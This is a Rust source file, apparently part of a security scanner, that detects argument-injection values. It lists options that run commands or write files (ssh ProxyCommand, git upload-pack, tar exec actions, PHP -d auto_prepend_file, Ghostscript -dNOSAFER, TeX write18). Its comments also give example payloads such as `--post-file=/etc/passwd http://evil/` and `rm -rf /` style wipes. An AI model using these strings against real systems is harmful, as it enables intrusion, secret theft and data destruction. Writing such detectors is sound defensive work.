//! Argument injection: a value that reaches a program's argument vector as an *option*.
//!
//! No shell is needed for this attack. An application that builds `argv` without a `--`
//! before user input, passes a value through PHP's `escapeshellcmd` (which leaves `-`
//! alone), or hands it to `mail()`'s fifth parameter, lets the value pick the program's
//! options. A few options make the program run a command line or write a file where the
//! attacker says: ssh's `ProxyCommand`, git's `--upload-pack` and `core.sshCommand`, tar's
//! `--checkpoint-action=exec=`, rsync's `--rsh`, zip's `-TT`, find's `-exec`, sendmail's
//! `-X` log file, Chromium's launcher prefixes. Those options, written as options (a dash
//! at the start of a word) with a value, are the attack; any other option is not.

/// Options of one dash or two (lower-case, without the dashes) whose value is a command line
/// the program runs.
const COMMAND_OPTIONS: &[&[u8]] = &[
    // git
    b"upload-pack",
    b"receive-pack",
    b"exec",
    // tar
    b"to-command",
    b"use-compress-program",
    b"rsh-command",
    b"info-script",
    b"new-volume-script",
    // rsync
    b"rsh",
    b"rsync-path",
    // zip
    b"unzip-command",
    // git grep, svn, go build
    b"open-files-in-pager",
    b"diff-cmd",
    b"toolexec",
    // npm, yarn
    b"script-shell",
    // wget
    b"use-askpass",
    // Chromium and Electron
    b"gpu-launcher",
    b"renderer-cmd-prefix",
    b"utility-cmd-prefix",
    b"browser-subprocess-path",
];

/// ssh configuration keys (given with `-o`) whose value is a command line.
const SSH_COMMAND_KEYS: &[&[u8]] = &[b"proxycommand", b"localcommand", b"knownhostscommand"];

/// git configuration keys (given with `-c key=value` or `--config=key=value`) whose value is
/// a command line.
const GIT_COMMAND_KEYS: &[&[u8]] = &[
    b"core.sshcommand",
    b"core.gitproxy",
    b"core.pager",
    b"core.editor",
    b"core.fsmonitor",
    b"core.hookspath",
    b"core.askpass",
    b"diff.external",
    b"protocol.ext.allow",
];

/// Longest option name read.
const MAX_NAME: usize = 32;
/// Most dashes examined per value.
const MAX_DASHES: usize = 64;

/// Whether `v` injects an option that runs a command or writes an attacker-chosen file.
pub(super) fn option_injection(v: &[u8]) -> bool {
    // One pass over the dashes asks both families of each (the options above, and
    // [`code_loading_options`]'): most values with a dash have several and none opens an
    // option, so a second search of the same dashes cost as much as the first.
    let list = argument_list(v);
    memchr::memchr_iter(b'-', v).take(MAX_DASHES).any(|at| {
        let opens = opens_word(v, at);
        (opens
            && names_option(v, at)
            && (dangerous_option(v, at)
                || option_runs_program(v, at)
                || command_taking_option(v, at)
                || option_given_shell(v, at)
                || option_value_runs(v, at)))
            || code_loading_at(v, at, opens, list)
    }) || root_wipe(v)
}

/// Whether a byte of an option's name (a letter, a digit, `-`, `_` or `.`) follows the dash
/// at `at`, or the second dash after it. Each rule [`option_injection`] asks of an option
/// that opens a word reads a name of such bytes there and answers no for an empty one
/// ([`dangerous_option`], [`option_runs_program`], [`option_given_shell`], and
/// [`option_value_runs`] through [`option_argument`], which wants a letter first), or wants
/// one of [`SHORT_COMMAND_OPTIONS`] (letters) or [`LONG_COMMAND_OPTIONS`] (no empty name)
/// there ([`command_taking_option`]): after a dash of prose (`a - b`) or SQL's comment
/// (`' --`) none of them can answer yes, and their reads are skipped.
fn names_option(v: &[u8], at: usize) -> bool {
    let from = at + 1 + usize::from(v.get(at + 1) == Some(&b'-'));
    v.get(from)
        .is_some_and(|&c| c.is_ascii_alphanumeric() || matches!(c, b'-' | b'_' | b'.'))
}

/// `%ADd+allow_url_include%3d1+%ADd+auto_prepend_file%3dphp://input` (CVE-2024-4577): PHP
/// on Windows converts the query string to the ANSI code page with best fit, which turns
/// the soft hyphen (byte `AD`, U+00AD) into `-`, so php-cgi sees `-d` options that its
/// check for a literal `-` let through. The value is read with its soft hyphens as dashes
/// (and the escaped `=` and blank beside them decoded) and judged as an argument list.
pub(super) fn soft_hyphen_options(v: &[u8]) -> bool {
    const MAX_FOLDED: usize = 1024;
    if v.len() > MAX_FOLDED || !spells_soft_hyphen(v) {
        return false;
    }
    let mut folded = Vec::with_capacity(v.len());
    let mut i = 0;
    while i < v.len() {
        let rest = &v[i..];
        if rest.len() >= 3 && rest[..3].eq_ignore_ascii_case(b"%ad") {
            folded.push(b'-');
            i += 3;
        } else if rest.starts_with(b"\xC2\xAD") {
            folded.push(b'-');
            i += 2;
        } else if rest.len() >= 3 && rest[..3].eq_ignore_ascii_case(b"%3d") {
            folded.push(b'=');
            i += 3;
        } else if rest.starts_with(b"%20") {
            folded.push(b' ');
            i += 3;
        } else {
            folded.push(rest[0]);
            i += 1;
        }
    }
    code_loading_options(&folded)
}

/// Whether `v` holds a soft hyphen, escaped (`%AD`, any case) or as its UTF-8 bytes `C2 AD`.
/// An escape ends with its `d`: only the stretch from two bytes before the first `d`/`D` to
/// the last one can hold it, and most encoded paths have no `d` at all (or one in a last
/// name such as `passwd`). Encoded paths hold a `%` every few bytes, where a search's set-up
/// per `%` costs more than comparing the bytes: a short stretch is read in one plain pass, a
/// long one (prose with a rare `%`) by searching for the next `%` ([`find_byte`]).
///
/// [`find_byte`]: crate::normalize::find_byte
fn spells_soft_hyphen(v: &[u8]) -> bool {
    memchr::memchr2(b'd', b'D', v).is_some_and(|first| {
        let last = memchr::memrchr2(b'd', b'D', v).unwrap_or(first);
        escaped_soft_hyphen(&v[first.saturating_sub(2)..=last])
    }) || memchr::memchr_iter(0xAD, v).any(|i| i > 0 && v[i - 1] == 0xC2)
}

/// Whether `v` holds `%AD` in any case (see [`spells_soft_hyphen`]).
fn escaped_soft_hyphen(v: &[u8]) -> bool {
    const PLAIN_PASS: usize = 256;
    // (`c | 0x20` is `c` in lower case for a letter, and equals a lower-case letter for
    // exactly that letter in either case.)
    if v.len() <= PLAIN_PASS {
        return v
            .windows(3)
            .any(|w| w[0] == b'%' && (w[1] | 0x20) == b'a' && (w[2] | 0x20) == b'd');
    }
    let mut from = 0;
    while let Some(p) = crate::normalize::find_byte(b'%', &v[from..]) {
        let at = from + p;
        if v.get(at + 1..at + 3)
            .is_some_and(|h| (h[0] | 0x20) == b'a' && (h[1] | 0x20) == b'd')
        {
            return true;
        }
        from = at + 1;
    }
    false
}

/// Whether the value is an argument list: its first word (after blanks or a quote) is an
/// option. Such a value is destined for a program's argument vector; a sentence or a form
/// answer opens with a word.
fn argument_list(v: &[u8]) -> bool {
    v.iter()
        .find(|&&c| !matches!(c, b' ' | b'\t' | b'+' | b'\'' | b'"'))
        .is_some_and(|&c| c == b'-')
}

/// Options that make the program they are given run or load code, by what the option does
/// rather than by tool: an application that builds a converter's, compiler's, interpreter's
/// or downloader's argument vector from the value (no shell, `escapeshellarg` around it)
/// lets the value pick these.
/// - `-d auto_prepend_file=php://input`, `-d allow_url_include=1`: PHP's `-d` ini override
///   of a directive that includes a file or loads an extension. php-cgi reads a query string
///   without `=` as its argv (CVE-2012-1823, CVE-2024-4577); `curl -d a=1` posts data, and
///   `date -d tomorrow` has no directive.
/// - `-dNOSAFER`, `-dDELAYSAFER`, `-dSAFER=false`: Ghostscript's define that turns its
///   sandbox off, after which `%pipe%` and file operators in the document run commands.
/// - `-agentlib:jdwp=…`, `-agentpath:/x.so`, `-javaagent:/x.jar`, `-Xrunjdwp:…`: the JVM
///   loads a native or Java agent (or opens a remote debugger, which runs any code); `-Xmx2g`
///   only sizes the heap.
/// - `--shell-escape`, `-enable-write18`: TeX engines then run `\write18{cmd}` of the
///   document; in an argument list only (`-output-directory=/tmp --shell-escape`, pandoc's
///   `--pdf-engine-opt=--shell-escape`), not a sentence about LaTeX.
/// - `-B/tmp/`, `-wrapper sh,-c`: gcc runs its sub-programs (`cc1`, `as`, `ld`) from the
///   prefix directory, or under the wrapper program; `grep -B 3` is given a count.
/// - `--exec id`, `-exec id`, `-c id`: an option that runs its argument, given a command by
///   name, after the first option of an argument list (yt-dlp's `--exec`, a shell's `-c`); a
///   sentence about `--exec` does not open with an option.
/// - `--pdf-engine=/tmp/x`: an option naming the engine program, given a file in a scratch
///   directory an upload planted; `--pdf-engine=xelatex` picks an installed one. nmap's
///   `--script=/tmp/x.nse` likewise runs a planted script; `--script=default` a shipped one.
fn code_loading_options(v: &[u8]) -> bool {
    let list = argument_list(v);
    memchr::memchr_iter(b'-', v)
        .take(MAX_DASHES)
        .any(|at| code_loading_at(v, at, opens_word(v, at), list))
}

/// [`code_loading_options`] for the dash at `at`: `opens` is [`opens_word`] there, `list`
/// [`argument_list`] of `v` (in an argument list an option may also follow `=`).
fn code_loading_at(v: &[u8], at: usize, opens: bool, list: bool) -> bool {
    (opens || (list && at > 0 && v[at - 1] == b'=')) && code_loading_option(v, at, list)
}

/// [`code_loading_options`] for the option whose first dash is at `at`.
fn code_loading_option(v: &[u8], at: usize, list: bool) -> bool {
    let double = v.get(at + 1) == Some(&b'-');
    let from = at + 1 + usize::from(double);
    let n = v[from.min(v.len())..]
        .iter()
        .take(MAX_NAME + 1)
        .take_while(|&&c| c.is_ascii_alphanumeric() || matches!(c, b'-' | b'_' | b'.'))
        .count();
    if n == 0 || n > MAX_NAME || !v[from].is_ascii_alphabetic() {
        return false;
    }
    let name = &v[from..from + n];
    let after = from + n;
    let next = v.get(after).copied();
    let ends = next.is_none_or(|c| matches!(c, b' ' | b'\t' | b'+' | b'\'' | b'"' | b','));
    // (on the stack: this runs for every option-like word of every value with a dash)
    let mut lower_buf = [0u8; MAX_NAME];
    let lower = &mut lower_buf[..n];
    lower.copy_from_slice(name);
    lower.make_ascii_lowercase();
    let lower = &*lower;
    if list && ends && matches!(lower, b"shell-escape" | b"enable-write18" | b"shell_escape") {
        return true;
    }
    if double {
        if list && lower == b"exec" {
            return exec_argument(v, after);
        }
        // (nmap's `--script=/tmp/x.nse` runs the Lua file it names the same way)
        return (name_ends_with(lower, b"engine", false) || lower == b"script")
            && next == Some(b'=')
            && super::in_scratch_dir(option_value(v, after, 128, path_byte));
    }
    // Ghostscript's defines are upper case: `-dNOSAFER`, `-dSAFER=false`.
    match name {
        b"dNOSAFER" | b"dDELAYSAFER" => return ends,
        b"dSAFER" => {
            let value = v.get(after + 1..).unwrap_or_default();
            return next == Some(b'=')
                && [&b"false"[..], b"0"].iter().any(|f| {
                    value.len() >= f.len()
                        && value[..f.len()].eq_ignore_ascii_case(f)
                        && value
                            .get(f.len())
                            .is_none_or(|&c| matches!(c, b' ' | b'\t' | b'+' | b'\'' | b'"'))
                });
        }
        _ => {}
    }
    if let Some(key) = lower.strip_prefix(b"d") {
        // `-dauto_prepend_file=…` glued, or `-d auto_prepend_file=…`.
        let mut spaced_buf = [0u8; MAX_NAME + 1];
        let (key, eq) = if key.is_empty() {
            if !matches!(next, Some(b' ' | b'\t' | b'+')) {
                return false;
            }
            let k = skip_blanks_and_quote(v, after);
            let m = v[k..]
                .iter()
                .take(MAX_NAME + 1)
                .take_while(|&&c| c.is_ascii_alphanumeric() || matches!(c, b'_' | b'.'))
                .count();
            let spaced = &mut spaced_buf[..m];
            spaced.copy_from_slice(&v[k..k + m]);
            spaced.make_ascii_lowercase();
            (&*spaced, k + m)
        } else {
            (key, after)
        };
        if v.get(eq) == Some(&b'=') && has_operand(v, eq + 1) && php_code_directive(key) {
            return true;
        }
    }
    if next == Some(b':')
        && has_operand(v, after + 1)
        && (matches!(name, b"agentlib" | b"agentpath" | b"javaagent")
            || (name.len() > 4 && name.starts_with(b"Xrun")))
    {
        return true;
    }
    if !list {
        return false;
    }
    match name {
        b"B" => {
            let k = if matches!(next, Some(b' ' | b'\t' | b'+')) {
                skip_blanks_and_quote(v, after)
            } else {
                after
            };
            let rest = v.get(k..).unwrap_or_default();
            [&b"/"[..], b"./", b"../", b"~/"]
                .iter()
                .any(|p| rest.starts_with(p))
        }
        b"wrapper" => {
            matches!(next, Some(b' ' | b'\t' | b'+'))
                && v.get(skip_blanks_and_quote(v, after))
                    .is_some_and(|&c| c.is_ascii_alphabetic() || c == b'/')
        }
        b"exec" => exec_argument(v, after),
        b"c" if matches!(next, Some(b' ' | b'\t' | b'+')) => {
            let word = option_value(v, after, 32, |c| {
                c.is_ascii_alphanumeric() || matches!(c, b'/' | b'.' | b'_' | b'-')
            });
            let base = super::last_segment(word);
            let end = skip_blanks_and_quote(v, after) + word.len();
            RUN_TARGETS.contains(&base)
                && v[end.min(v.len())..]
                    .iter()
                    .all(|&c| matches!(c, b' ' | b'\t' | b'+' | b'\'' | b'"'))
        }
        _ => false,
    }
}

/// PHP ini directives (lower case) whose value the interpreter includes as code or loads as
/// a shared object: the prepended and appended scripts, remote includes, extensions.
fn php_code_directive(key: &[u8]) -> bool {
    let last = key.rsplit(|&c| c == b'.').next().unwrap_or_default();
    [
        &b"auto_prepend_file"[..],
        b"auto_append_file",
        b"allow_url_include",
        b"extension",
        b"zend_extension",
    ]
    .contains(&last)
        || (key.starts_with(b"xdebug.") && name_ends_with(last, b"enable", false))
}

/// The option ending at `after` (`--exec`, `-exec`) is given, as its next word, a command
/// by name: the program runs it.
fn exec_argument(v: &[u8], after: usize) -> bool {
    if !matches!(v.get(after), Some(b' ' | b'\t' | b'+' | b'=')) {
        return false;
    }
    let word = option_value(v, after, 32, |c| {
        c.is_ascii_alphanumeric() || matches!(c, b'/' | b'.' | b'_' | b'-')
    });
    let base = super::last_segment(word);
    !base.is_empty() && (RUN_TARGETS.contains(&base) || super::known_command(base))
}

/// Commands a program told to run one (`nc -e`, `rsync -e`, `git -u`) is given in an
/// attack: the shells, and the recon programs whose output is the probe's answer.
const RUN_TARGETS: &[&[u8]] = &[
    b"sh",
    b"bash",
    b"zsh",
    b"ksh",
    b"dash",
    b"ash",
    b"csh",
    b"tcsh",
    b"id",
    b"whoami",
    b"uname",
    b"hostname",
    b"ifconfig",
    b"ipconfig",
    b"systeminfo",
    b"cmd",
    b"cmd.exe",
    b"powershell",
    b"pwsh",
];

/// The value of the option whose dash is at `at`: the text after a single-letter option
/// (glued, or after `=` or blanks) or after a long option's `=` or blanks, up to the next
/// blank; a quoted value is returned without its quotes. `None` when there is none.
fn option_argument(v: &[u8], at: usize) -> Option<&[u8]> {
    let double = v.get(at + 1) == Some(&b'-');
    let from = at + 1 + usize::from(double);
    let n = v[from.min(v.len())..]
        .iter()
        .take(MAX_NAME + 1)
        .take_while(|&&c| c.is_ascii_alphanumeric() || c == b'-' || c == b'_')
        .count();
    if n == 0 || n > MAX_NAME || !v[from].is_ascii_alphabetic() {
        return None;
    }
    let mut k = from + if double { n } else { 1 };
    let glued = !double && n > 1;
    if !glued {
        let blanks = v[k..]
            .iter()
            .take(16)
            .take_while(|&&c| matches!(c, b' ' | b'\t' | b'=' | b'+'))
            .count();
        if blanks == 0 && k < v.len() {
            return None;
        }
        k += blanks;
    }
    let rest = &v[k.min(v.len())..v.len().min(k + 256)];
    match rest.first() {
        None => None,
        Some(&q @ (b'\'' | b'"')) => {
            let body = &rest[1..];
            body.iter().position(|&b| b == q).map(|c| &body[..c])
        }
        Some(_) => {
            let len = rest
                .iter()
                .take_while(|&&c| !matches!(c, b' ' | b'\t' | b'+'))
                .count();
            Some(&rest[..len])
        }
    }
}

/// An option whose value makes the program run a command, whatever the program:
/// - `-e id`, `-x sh`: a command-taking letter of [`SHORT_COMMAND_OPTIONS`] given a shell or
///   recon program as the whole rest of the value (`nc -e sh`, `rsync -e id`); `-e utf-8`,
///   `-e ssh` (rsync's ordinary transport) and `-e id card` (a sentence) are data;
/// - `-W exec=id`, `--action exec:id`: an action value `exec=` or `exec:` (tar's
///   `--checkpoint-action`, gawk's and find-like tools' exec actions) with a command after it;
/// - `-c ':!id'`, `+'!sh'`: vim's and less's ex-command shell escape `!cmd` as the value;
/// - `-K /dev/stdin`, `--config=/dev/fd/0`: curl's configuration read from the request
///   body the attacker also controls (its `url`, `output` and `upload-file` lines);
/// - `-u file:///etc/passwd`, `--url=file:///proc/self/environ`: a URL option given a
///   local system file, which the client reads and returns.
fn option_value_runs(v: &[u8], at: usize) -> bool {
    let Some(arg) = option_argument(v, at) else {
        return false;
    };
    if arg.is_empty() {
        return false;
    }
    let double = v.get(at + 1) == Some(&b'-');
    let letter = v.get(at + 1 + usize::from(double)).copied().unwrap_or(0);
    let name_len = v[at + 1 + usize::from(double)..]
        .iter()
        .take_while(|&&c| c.is_ascii_alphanumeric() || c == b'-' || c == b'_')
        .count();
    let name = &v[at + 1 + usize::from(double)..at + 1 + usize::from(double) + name_len];
    let arg_end = arg.as_ptr() as usize - v.as_ptr() as usize + arg.len();
    let value_ends = v[arg_end.min(v.len())..]
        .iter()
        .all(|&b| matches!(b, b' ' | b'\t' | b'+' | b'\'' | b'"'));
    let lower = arg.to_ascii_lowercase();
    let base = lower.rsplit(|&b| b == b'/').next().unwrap_or_default();
    if !double
        && name_len == 1
        && SHORT_COMMAND_OPTIONS.contains(&letter)
        && value_ends
        && RUN_TARGETS.contains(&base)
        && (arg[0] != b'/' || arg.starts_with(b"/bin/") || arg.starts_with(b"/usr/bin/"))
    {
        return true;
    }
    for action in [&b"exec="[..], b"exec:"] {
        if let Some(cmd) = lower.strip_prefix(action) {
            if cmd
                .first()
                .is_some_and(|&c| c.is_ascii_alphabetic() || c == b'/')
            {
                return true;
            }
        }
    }
    let bang = lower.strip_prefix(b":").unwrap_or(&lower);
    if let Some(cmd) = bang.strip_prefix(b"!") {
        if !cmd.is_empty() && super::string_runs_command(cmd) {
            return true;
        }
    }
    let config = if double {
        name.eq_ignore_ascii_case(b"config")
    } else {
        name == b"K"
    };
    if config
        && (lower.starts_with(b"/dev/stdin")
            || lower.starts_with(b"/dev/fd/")
            || lower.starts_with(b"/proc/self/fd/"))
    {
        return true;
    }
    if let Some(path) = lower.strip_prefix(b"file://") {
        let path = path.strip_prefix(b"localhost").unwrap_or(path);
        return [
            &b"/etc/"[..],
            b"/proc/",
            b"/root/",
            b"/dev/",
            b"/var/",
            b"/c:/windows",
            b"/windows/",
        ]
        .iter()
        .any(|p| path.starts_with(p));
    }
    false
}

/// One-letter options that hand their argument to a program to run, case as written:
/// rsync's, netcat's and xterm's `-e` (the remote shell or program to execute), tar's `-I`
/// (`--use-compress-program`), git clone's and ls-remote's `-u` (`--upload-pack`), git
/// rebase's `-x` (`--exec`).
const SHORT_COMMAND_OPTIONS: &[u8] = b"eIux";

/// Long options whose argument, given as the next word, is a command line: git rebase's
/// `--exec CMD` (the glued `--exec=` form and the other command options of
/// [`COMMAND_OPTIONS`] are judged by [`dangerous_option`]).
const LONG_COMMAND_OPTIONS: &[&[u8]] = &[b"exec", b"rsh", b"upload-pack", b"use-compress-program"];

/// `-e sh\ -c\ id`, `-I"sh -c id"`, `-u./payload`, `--exec 'id'`: an option that takes a
/// command (see [`SHORT_COMMAND_OPTIONS`]), its argument glued on (`=`, attached) or the next
/// word, and that argument a command: the program runs it. The same letters take data in
/// other tools (`-e utf-8`, `-I include/`, `-u admin`, `--exec "CMD"` in a manual), so the
/// argument itself must be a command line, see [`command_argument`].
fn command_taking_option(v: &[u8], at: usize) -> bool {
    let double = v.get(at + 1) == Some(&b'-');
    let from = at + 1 + usize::from(double);
    let arg = if double {
        let n = v[from..]
            .iter()
            .take(MAX_NAME + 1)
            .take_while(|&&c| c.is_ascii_alphanumeric() || c == b'-' || c == b'_')
            .count();
        let name = &v[from..from + n];
        if !LONG_COMMAND_OPTIONS
            .iter()
            .any(|o| name.eq_ignore_ascii_case(o))
            || !matches!(v.get(from + n), Some(b'=' | b' ' | b'\t' | b'+'))
        {
            return false;
        }
        from + n + 1
    } else {
        if !v
            .get(from)
            .is_some_and(|c| SHORT_COMMAND_OPTIONS.contains(c))
        {
            return false;
        }
        match v.get(from + 1) {
            Some(b' ' | b'\t' | b'+' | b'=') => from + 2,
            Some(b'\'' | b'"' | b'.' | b'/' | b'~') => from + 1,
            _ => return false,
        }
    };
    let k = arg
        + v[arg.min(v.len())..]
            .iter()
            .take(16)
            .take_while(|&&c| matches!(c, b' ' | b'\t' | b'+'))
            .count();
    command_argument(v, k)
}

/// Whether the option argument starting at `k` is a command: a quoted command line in
/// command position (`'id'`, `"sh -c id"`; not a capitalised placeholder, not ssh, the transport rsync's `-e` is given in
/// ordinary use), a shell whose arguments follow behind escaped blanks (`sh\ -c\ id`), or a
/// program file in the working or a scratch directory (`./payload`, `/tmp/x`).
fn command_argument(v: &[u8], k: usize) -> bool {
    match v.get(k) {
        Some(&q @ (b'\'' | b'"')) => {
            let body = &v[k + 1..v.len().min(k + 1 + 256)];
            let Some(close) = body.iter().position(|&b| b == q) else {
                return false;
            };
            let line = body[..close].trim_ascii();
            let first = line.split(|&b| b == b' ').next().unwrap_or_default();
            let base = first.rsplit(|&b| b == b'/').next().unwrap_or_default();
            // A manual's placeholder (`--exec "CMD"`) is written in capitals.
            !line.is_empty()
                && base.iter().any(u8::is_ascii_lowercase)
                && !matches!(base, b"ssh" | b"rsh" | b"plink")
                && super::string_runs_command(line)
        }
        Some(_) => {
            let rest = &v[k..];
            let len = rest.iter().take(256).take_while(|&&c| path_byte(c)).count();
            let word = &rest[..len];
            let base = word.rsplit(|&b| b == b'/').next().unwrap_or_default();
            let shell = matches!(base, b"sh" | b"bash" | b"zsh" | b"ksh" | b"dash" | b"ash");
            (shell && rest[len..].starts_with(b"\\ "))
                || ((word.starts_with(b"./") || super::in_scratch_dir(word))
                    && super::path_to_run(word)
                    && super::program_file_name(word))
        }
        None => false,
    }
}

/// `-rf /`, `--no-preserve-root -rf /*`: a value of nothing but options, a recursive and
/// forced one among them, and the file-system root (or home) as the one operand. Handed to
/// `rm` (a file manager's delete action building its argument vector) it deletes
/// everything; no other program is given that line, and a sentence about it has words
/// that are not options (`never run -rf / on a server`).
fn root_wipe(v: &[u8]) -> bool {
    let v = v.trim_ascii();
    if v.len() > 96 {
        return false;
    }
    let mut words = v
        .split(|&b| matches!(b, b' ' | b'\t' | b'+'))
        .filter(|w| !w.is_empty());
    let Some(last) = words.next_back() else {
        return false;
    };
    if !matches!(last, b"/" | b"/*" | b"~" | b"~/" | b"~/*" | b"/." | b"/.*") {
        return false;
    }
    let mut recursive_force = false;
    for w in words {
        match w {
            [b'-', b'-', ..] => {
                recursive_force |= w.eq_ignore_ascii_case(b"--no-preserve-root")
                    || w.eq_ignore_ascii_case(b"--preserve-root=false");
            }
            [b'-', cluster @ ..]
                if !cluster.is_empty() && cluster.iter().all(u8::is_ascii_alphabetic) =>
            {
                recursive_force |=
                    cluster.iter().any(|&c| c == b'r' || c == b'R') && cluster.contains(&b'f');
            }
            _ => return false,
        }
    }
    recursive_force
}

/// Ghostscript's `%pipe%cmd` output device (`-sOutputFile=%pipe%id`, or
/// `(%pipe%id) (w) file` in a PostScript document) runs `cmd`.
pub(super) fn ghostscript_pipe(v: &[u8]) -> bool {
    // The device name is lower case in Ghostscript; one substring search (its searcher
    // built once) settles a value.
    static PIPE: std::sync::LazyLock<memchr::memmem::Finder<'static>> =
        std::sync::LazyLock::new(|| memchr::memmem::Finder::new(b"%pipe%"));
    PIPE.find_iter(v).take(MAX_DASHES).any(|p| {
        v.get(p + 6)
            .is_some_and(|c| c.is_ascii_alphanumeric() || *c == b'/')
    })
}

/// Most `\write` control sequences examined per value.
const MAX_WRITES: usize = 16;

/// `\write18{id}`, `\immediate\write18{curl x|sh}`: TeX's write to stream 18 is a shell
/// command when the engine runs with shell escape (`--shell-escape`, and the restricted list
/// of MiKTeX and TeX Live defaults), so a document or a Markdown-to-PDF field that carries it
/// runs the braced text. Only a braced command counts; a sentence naming `\write18` (the
/// primitive, its risks) has no command in braces after it.
pub(super) fn tex_write18(v: &[u8]) -> bool {
    memchr::memchr_iter(b'\\', v)
        .filter(|&at| {
            v.get(at..at + 6)
                .is_some_and(|w| w.eq_ignore_ascii_case(b"\\write"))
        })
        .take(MAX_WRITES)
        .any(|at| {
            let mut k = at + 6;
            let blanks = |k: usize| {
                k + v[k.min(v.len())..]
                    .iter()
                    .take(8)
                    .take_while(|&&c| c == b' ')
                    .count()
            };
            k = blanks(k);
            if v.get(k..k + 2) != Some(b"18") {
                return false;
            }
            k = blanks(k + 2);
            if v.get(k) != Some(&b'{') {
                return false;
            }
            let body = &v[k + 1..v.len().min(k + 1 + 256)];
            let Some(close) = body.iter().position(|&c| c == b'}') else {
                return false;
            };
            let line = body[..close].trim_ascii();
            let line = line
                .strip_prefix(b"\"")
                .and_then(|l| l.strip_suffix(b"\""))
                .unwrap_or(line);
            let first = line
                .split(|&c| matches!(c, b' ' | b'\t' | b'|' | b';' | b'&'))
                .next()
                .unwrap_or_default();
            let base = super::last_segment(first);
            !base.is_empty()
                && (RUN_TARGETS.contains(&base)
                    || super::known_command(base)
                    || super::string_runs_command(line))
        })
}

/// An option opens a word: the value's start, a blank or quote before the dash, or `$IFS`
/// (`name$IFS-oProxyCommand=id`), which the shell splits into a blank.
fn opens_word(v: &[u8], at: usize) -> bool {
    at == 0
        || matches!(v[at - 1], b' ' | b'\t' | b'\'' | b'"' | b'+')
        // `ssh://-oProxyCommand=…/x`: git, svn and hg hand an ssh URL's host to ssh as its
        // own argument, so a host that opens with a dash is an ssh option
        // (CVE-2017-1000117, CVE-2017-9800).
        || v[..at]
            .get(at.saturating_sub(6)..)
            .is_some_and(|s| s.eq_ignore_ascii_case(b"ssh://"))
        || v[..at].ends_with(b"$IFS")
        || v[..at].ends_with(b"${IFS}")
}

/// Endings of option names (without dashes, lower case) whose value is a program or a
/// command line, in whatever tool: tar's `--use-compress-program`, `--to-command`,
/// rsync's `--rsh-command`, `--diff-cmd`, `--command=`; psql's, git's and man's `--pager`,
/// `--editor`, which the tool starts to show or edit text. A data option never takes a
/// program.
const PROGRAM_NAME_ENDINGS: &[&[u8]] = &[
    b"command",
    b"program",
    b"cmd",
    b"pager",
    b"editor",
    b"preprocessor",
];

/// Whether the option `name` ends in `ending` as a whole dash- or underscore-separated part
/// (any case); `compound` asks for a part before it (`index-filter`, not `filter`).
fn name_ends_with(name: &[u8], ending: &[u8], compound: bool) -> bool {
    name.len() >= ending.len()
        && name[name.len() - ending.len()..].eq_ignore_ascii_case(ending)
        && if name.len() == ending.len() {
            !compound
        } else {
            matches!(name[name.len() - ending.len() - 1], b'-' | b'_')
        }
}

/// `--command=id`, `--compress-program=sh`, `--post-cmd=/bin/sh`, `--pager='!id'`,
/// `--index-filter='id'`: a double-dash option named for a program, its value glued on with
/// `=` (or quoted after a blank), and the value's first word a command the shell or `execvp`
/// finds. A leading `!` is the shell escape of the pagers and clients these options start
/// (less, psql, mysql run `!cmd` through the shell). git filter-branch's `--index-filter`,
/// `--tree-filter`, `--msg-filter` hand their value to `sh -c`; a bare `--filter=price` is a
/// search form's, so `filter` counts only as the last part of a compound name.
fn program_named_option(name: &[u8], v: &[u8], after: usize) -> bool {
    let named = PROGRAM_NAME_ENDINGS
        .iter()
        .any(|e| name_ends_with(name, e, false))
        || name_ends_with(name, b"filter", true);
    let glued = v.get(after) == Some(&b'=')
        || (matches!(v.get(after), Some(b' ' | b'\t'))
            && matches!(v.get(after + 1), Some(b'\'' | b'"')));
    if !named || !glued {
        return false;
    }
    let word = option_value(v, after, 64, |c| {
        c.is_ascii_alphanumeric() || matches!(c, b'/' | b'.' | b'_' | b'-' | b'!')
    });
    let word = word.strip_prefix(b"!").unwrap_or(word);
    !word.is_empty()
        && word[0] != b'!'
        && (super::known_command(word) || (word.first() == Some(&b'/') && super::path_to_run(word)))
}

/// `--post-file=/etc/passwd http://evil/`, `--body-file=~/.ssh/id_rsa https://x/`: a
/// download tool's option that sends a file's contents (its name ends in `-file`), given a
/// system secret, with a URL to send it to: exfiltration through the tool's request. A
/// `--config-file=/etc/app.conf` with no URL after it only reads its configuration.
fn file_upload_option(name: &[u8], v: &[u8], after: usize) -> bool {
    if !name_ends_with(name, b"file", true) || !matches!(v.get(after), Some(b'=' | b' ')) {
        return false;
    }
    let path = option_value(v, after, 128, path_byte);
    // The URL may come before the option too (`http://x --upload-file /etc/passwd`): the
    // application put its URL first and the value appends the option.
    (system_secret(path) || app_secret(path)) && memchr::memmem::find(v, b"://").is_some()
}

/// An absolute path the traversal detector's list of sensitive files names
/// (`/var/www/.env`, `/home/app/.git-credentials`, `C:/inetpub/wwwroot/web.config`): the
/// application's own secrets, which an upload option sends as readily as `/etc/passwd`.
fn app_secret(path: &[u8]) -> bool {
    matches!(path.first(), Some(b'/' | b'~'))
        && std::str::from_utf8(path)
            .is_ok_and(|p| crate::traversal::detect(p, crate::Context::Param).is_some())
}

/// find's `-fprint FILE`, `-fprint0`, `-fprintf FILE FORMAT`, `-fls FILE`: the actions that
/// write the listing (with `-fprintf`, text the value chooses) to a file the value names.
/// Given a path to a system file, a server-side script or anything under a web root, the
/// value plants a file the server then serves or trusts. No other tool spells these options;
/// a bare name (`-fprint out.txt`) writes in the working directory and stays quiet.
fn find_write_action(name: &[u8], v: &[u8], after: usize) -> bool {
    if !matches!(name, b"fprint" | b"fprint0" | b"fprintf" | b"fls")
        || !matches!(v.get(after), Some(b' ' | b'\t' | b'+'))
    {
        return false;
    }
    let path = option_value(v, after, 256, path_byte);
    system_write_target(path)
        || script_in_directory(path)
        || template_in_directory(path)
        || in_web_root(path)
}

/// A path under a directory web servers serve from (`/var/www/`, `/srv/www/`, `htdocs`,
/// `public_html`, `wwwroot`, `public`, `static`, nginx's `/usr/share/nginx/html/`): a file written there is
/// served, and with a script extension run, at the next request.
pub(super) fn in_web_root(path: &[u8]) -> bool {
    const ROOTS: &[&[u8]] = &[b"/var/www/", b"/srv/www/", b"/usr/share/nginx/html/"];
    // (`/public/`, `/static/`: the static directories Express, Rails, Laravel, Next.js,
    // Flask and Django serve as they are, `/app/public/index.html` in a container)
    const DIRS: &[&[u8]] = &[
        b"/htdocs/",
        b"/public_html/",
        b"/wwwroot/",
        b"/public/",
        b"/static/",
    ];
    (ROOTS.iter().any(|r| path.starts_with(r))
        || DIRS.iter().any(|d| memchr::memmem::find(path, d).is_some()))
